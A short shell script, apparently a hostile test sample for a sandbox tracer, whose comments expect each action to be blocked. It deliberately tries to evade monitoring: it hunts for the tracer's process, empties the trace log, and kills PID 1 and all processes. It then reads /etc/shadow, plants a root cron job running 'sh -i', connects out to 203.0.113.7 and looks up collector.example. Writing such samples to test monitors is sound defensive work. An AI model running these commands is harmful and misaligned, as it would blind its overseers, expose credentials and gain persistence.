#!/bin/sh
# The first bypass in sh: read the tracer's command line, try to empty the trace where it lives and
# to kill the tracer, then do what it came for.
# selftest: expect: Reach for the sandbox's tracer = blocked
# selftest: expect: Read sensitive file untrusted @ /etc/shadow = blocked
# selftest: expect: Schedule Cron Jobs @ /etc/cron.d/owned = blocked
# selftest: expect: Outbound connection @ 203.0.113.7:443 = blocked
# selftest: expect: DNS lookup @ collector.example = blocked
# selftest: complete
exec 2>/dev/null
for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f"; echo; done > /tmp/cmdlines
true > /proc/1/root/trace/calls
kill -9 1
kill -9 -1
cat /etc/shadow > /dev/null
echo '* * * * * root sh -i' > /etc/cron.d/owned
nc -w 2 203.0.113.7 443 < /dev/null
nslookup collector.example > /dev/null
true
